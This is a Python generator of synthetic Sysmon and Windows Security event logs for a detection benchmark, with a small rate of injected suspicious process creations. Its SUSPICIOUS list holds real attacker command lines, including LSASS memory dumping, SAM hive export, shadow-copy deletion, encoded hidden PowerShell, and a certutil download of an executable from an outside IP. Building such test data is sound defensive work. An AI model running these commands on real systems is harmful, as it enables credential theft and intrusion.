"""Windows events for the benchmark of detection: seeded, of many hosts, in the mixture and shape of a Sysmon estate.

Written flat, one JSON object a line, as collectors write them (nxlog, OTRF's captures). Nearly all of it is the ordinary
life of machines; `suspicious` of a thousand process creations are of the kind that rules look for.
"""
import json
import pathlib
import random

SYSMON = "Microsoft-Windows-Sysmon/Operational"
FOLDERS = ["C:\\Windows\\System32", "C:\\Windows\\SysWOW64", "C:\\Program Files\\Common Files\\microsoft shared\\ClickToRun",
           "C:\\Program Files\\Google\\Chrome\\Application", "C:\\Program Files (x86)\\Microsoft\\Edge\\Application",
           "C:\\Users\\{user}\\AppData\\Local\\Microsoft\\OneDrive", "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.2"]
PROGRAMS = ["svchost.exe", "conhost.exe", "RuntimeBroker.exe", "taskhostw.exe", "chrome.exe", "msedge.exe", "OneDrive.exe",
            "MsMpEng.exe", "WmiPrvSE.exe", "SearchIndexer.exe", "backgroundTaskHost.exe", "dllhost.exe", "explorer.exe", "cmd.exe",
            "powershell.exe", "OUTLOOK.EXE", "WINWORD.EXE", "Teams.exe", "git.exe", "node.exe", "python.exe", "tasklist.exe"]
ARGUMENTS = ["-k netsvcs -p -s Schedule", "0xffffffff -ForceV1", "-Embedding", "--type=renderer --lang=en-US --device-scale-factor=1",
             "/background", "-ServerName:App.AppXy9rh3t8m2jfpvhhxp6y2ksgeq77vymbq.mca", "/c dir /b \"D:\\share\\reports\"",
             "-NoProfile -ExecutionPolicy RemoteSigned -File C:\\scripts\\inventory.ps1", "status --porcelain=v2 --branch",
             "server.js --port 8080 --config=production.json", "-m pip list --outdated --format=json", "/svc /fo csv"]
SUSPICIOUS = ["powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA", "vssadmin.exe delete shadows /all /quiet",
              "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\lsass.dmp full", "whoami.exe /all",
              "reg.exe save hklm\\sam C:\\Users\\Public\\sam.save", "certutil.exe -urlcache -split -f http://203.0.113.9/a.exe a.exe",
              "net.exe group \"Domain Admins\" /domain", "wmic.exe process call create \"cmd.exe /c calc.exe\""]
# What starts programs on a machine that nobody attacks.
PARENTS = ["C:\\Windows\\System32\\services.exe", "C:\\Windows\\explorer.exe", "C:\\Windows\\System32\\svchost.exe"]
KEYS = ["HKLM\\System\\CurrentControlSet\\Services\\W32Time\\Config\\LastKnownGoodTime", "HKU\\S-1-5-21\\Software\\Microsoft\\Office\\16.0",
        "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Diagnostics\\DiagTrack\\Aggregation", "HKCR\\Local Settings\\MuiCache\\1f"]
LIBRARIES = ["ntdll.dll", "kernel32.dll", "amsi.dll", "combase.dll", "clr.dll", "crypt32.dll", "ws2_32.dll", "wininet.dll", "urlmon.dll"]
DOMAINS = ["outlook.office365.com", "login.microsoftonline.com", "ctldl.windowsupdate.com", "www.example.org", "dc01.contoso.example"]
# Event ids with their share of a thousand.
MIXTURE = {1: 130, 3: 110, 5: 100, 7: 230, 8: 2, 10: 90, 11: 90, 12: 60, 13: 90, 17: 8, 18: 10, 22: 40, 23: 20, 4624: 10, 4688: 10}


class Estate:
    def __init__(self, seed: int, suspicious: int):
        self.random = random.Random(seed)
        self.suspicious = suspicious

    def program(self, user: str) -> str:
        return self.random.choice(FOLDERS).replace("{user}", user) + "\\" + self.random.choice(PROGRAMS)

    def event(self, number: int) -> dict:
        choose = self.random
        kind = choose.choices(list(MIXTURE), MIXTURE.values())[0]
        user, host = f"user{choose.randrange(400)}", f"WS{choose.randrange(300):04}.contoso.example"
        second = number // 200
        clock = f"2026-03-{1 + second // 86400 % 28:02} {second // 3600 % 24:02}:{second // 60 % 60:02}:{second % 60:02}"
        guid = f"{{{choose.getrandbits(32):08x}-{choose.getrandbits(16):04x}-6400-0000-0010{choose.getrandbits(32):08x}}}"
        event = {"@timestamp": clock.replace(" ", "T") + f".{number % 200 * 5:03}Z", "Hostname": host, "Computer": host, "EventID": kind,
                 "SourceName": "Microsoft-Windows-Sysmon", "Channel": SYSMON, "RecordNumber": number, "Task": kind,
                 "SeverityValue": 2, "ExecutionProcessID": 2800, "ThreadID": 4120}
        if kind >= 4000:
            event |= {"Channel": "Security", "SourceName": "Microsoft-Windows-Security-Auditing", "SubjectUserName": user,
                      "SubjectDomainName": "CONTOSO", "SubjectLogonId": hex(choose.getrandbits(24))}
            return event | (self.audit_process(user) if kind == 4688 else self.logon(user))
        image = self.program(user)
        event |= {"UtcTime": clock + f".{number % 200 * 5:03}", "ProcessGuid": guid, "ProcessId": choose.randrange(300, 20000),
                  "Image": image, "RuleName": "-", "User": f"CONTOSO\\{user}"}
        return event | self.details(kind, image, user)

    def audit_process(self, user: str) -> dict:
        image = self.program(user)
        return {"NewProcessName": image, "NewProcessId": hex(self.random.randrange(300, 20000)), "TokenElevationType": "%%1936",
                "CommandLine": f"\"{image}\" {self.random.choice(ARGUMENTS)}", "ParentProcessName": self.random.choice(PARENTS)}

    def logon(self, user: str) -> dict:
        return {"TargetUserName": user, "TargetDomainName": "CONTOSO", "LogonType": self.random.choice(["2", "3", "5", "7"]),
                "IpAddress": f"10.1.{self.random.randrange(256)}.{self.random.randrange(256)}", "LogonProcessName": "Kerberos",
                "AuthenticationPackageName": "Kerberos", "WorkstationName": "-", "KeyLength": "0"}

    def details(self, kind: int, image: str, user: str) -> dict:
        choose = self.random
        if kind == 1:
            line = f"\"{image}\" {choose.choice(ARGUMENTS)} {choose.getrandbits(32):x}"
            if choose.randrange(1000) < self.suspicious:
                line = choose.choice(SUSPICIOUS)
                image = "C:\\Windows\\System32\\" + line.split(" ")[0]
            return {"Image": image, "CommandLine": line, "CurrentDirectory": f"C:\\Users\\{user}\\", "IntegrityLevel": "Medium",
                    "Hashes": f"SHA1={choose.getrandbits(160):040X},MD5={choose.getrandbits(128):032X},IMPHASH={choose.getrandbits(128):032X}",
                    "ParentImage": choose.choice(PARENTS), "ParentCommandLine": f"{choose.choice(PARENTS)} {choose.choice(ARGUMENTS)}",
                    "OriginalFileName": image.rsplit("\\", 1)[1], "Company": "Microsoft Corporation", "Product": "Windows",
                    "Description": "Host Process for Windows Services", "FileVersion": "10.0.19041.1806", "LogonId": "0x3e7",
                    "ParentUser": f"CONTOSO\\{user}", "TerminalSessionId": 1}
        if kind == 3:
            return {"Protocol": "tcp", "Initiated": "true", "SourceIp": f"10.1.0.{choose.randrange(256)}", "SourcePort":
                    choose.randrange(49152, 65535), "DestinationIp": f"52.96.{choose.randrange(256)}.{choose.randrange(256)}",
                    "DestinationPort": choose.choice([443, 80, 53, 445, 389]), "DestinationHostname": choose.choice(DOMAINS)}
        if kind == 7:
            return {"ImageLoaded": "C:\\Windows\\System32\\" + choose.choice(LIBRARIES), "Signed": "true", "SignatureStatus": "Valid",
                    "Signature": "Microsoft Windows", "Hashes": f"SHA256={choose.getrandbits(256):064X}", "OriginalFileName": "-"}
        if kind in (8, 10):
            return {"SourceImage": image, "TargetImage": self.program(user), "GrantedAccess": choose.choice(["0x1000", "0x1400", "0x3000"]),
                    "CallTrace": "C:\\Windows\\SYSTEM32\\ntdll.dll+9d1e4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|UNKNOWN(0)",
                    "SourceUser": f"CONTOSO\\{user}", "TargetUser": "NT AUTHORITY\\SYSTEM"}
        if kind in (11, 23):
            return {"TargetFilename": f"C:\\Users\\{user}\\AppData\\Local\\Temp\\{choose.getrandbits(48):x}.tmp", "CreationUtcTime": "-"}
        if kind in (12, 13):
            return {"EventType": "SetValue" if kind == 13 else "CreateKey", "TargetObject": choose.choice(KEYS),
                    "Details": f"DWORD (0x{choose.getrandbits(32):08x})"}
        if kind in (17, 18):
            return {"PipeName": f"\\mojo.{choose.getrandbits(32)}.{choose.getrandbits(32)}"}
        if kind == 22:
            return {"QueryName": choose.choice(DOMAINS), "QueryStatus": "0", "QueryResults": "::ffff:52.96.1.2;"}
        return {}


def write(path: pathlib.Path, events: int, seed: int = 7, suspicious: int = 4) -> None:
    estate = Estate(seed, suspicious)
    with path.open("w") as lines:
        for number in range(events):
            lines.write(json.dumps(estate.event(number)) + "\n")
